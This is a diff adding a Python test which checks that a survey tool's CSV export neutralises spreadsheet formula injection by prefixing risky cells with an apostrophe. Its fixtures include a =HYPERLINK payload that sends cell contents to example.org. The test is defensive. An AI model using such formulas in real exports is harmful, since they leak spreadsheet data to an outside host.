@@ -53,3 +53,35 @@ async def test_csv_for_excel_starts_with_a_bom(harness: Harness) -> None:
     buffer = io.StringIO()
     count = await write_csv(harness.services.surveys.repository, harness.services.survey, buffer, bom=True)
     assert count == 0 and buffer.getvalue().startswith("\ufeffresponse,")
+
+
+FORMULAS = [
+    '=HYPERLINK("https://example.org/?q="&A2&B2,"Klicka")',
+    "+46 är riktnumret, inte en formel",
+    "-1+1 blev fel",
+    "@SUM(A1:A9)",
+    "  =1+1 efter mellanslag",
+    "＝1+1 med bred likhetstecken",
+]
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(harness: Harness) -> None:
+    for number, story in enumerate(FORMULAS):
+        resident = harness.resident(4100 + number, "sv")
+        await begin(resident, "sv")
+        await answer_all(resident)
+        await resident.say(story)
+    survey = harness.services.survey
+    repository = harness.services.surveys.repository
+    rows = list(csv.DictReader(io.StringIO(await export_text(repository, survey, "csv"))))
+    stored = [row["story_text"] for row in rows]
+    assert len(stored) == len(FORMULAS)
+    for cell in stored:
+        # Every story reaches the sheet as text: an apostrophe first, then what was stored.
+        assert cell.startswith("'"), cell
+    assert stored[0] == "'" + FORMULAS[0]
+    # JSON Lines is not opened by spreadsheets: there the story stays exactly as stored.
+    text = await export_text(repository, survey, "jsonl")
+    assert [json.loads(line)["story_text"] for line in text.splitlines()][0] == FORMULAS[0]
+    # Ordinary cells are untouched: codes, dates and the running number.
+    assert rows[0]["response"] == "1" and rows[0]["agencies"] == "fk;skv"
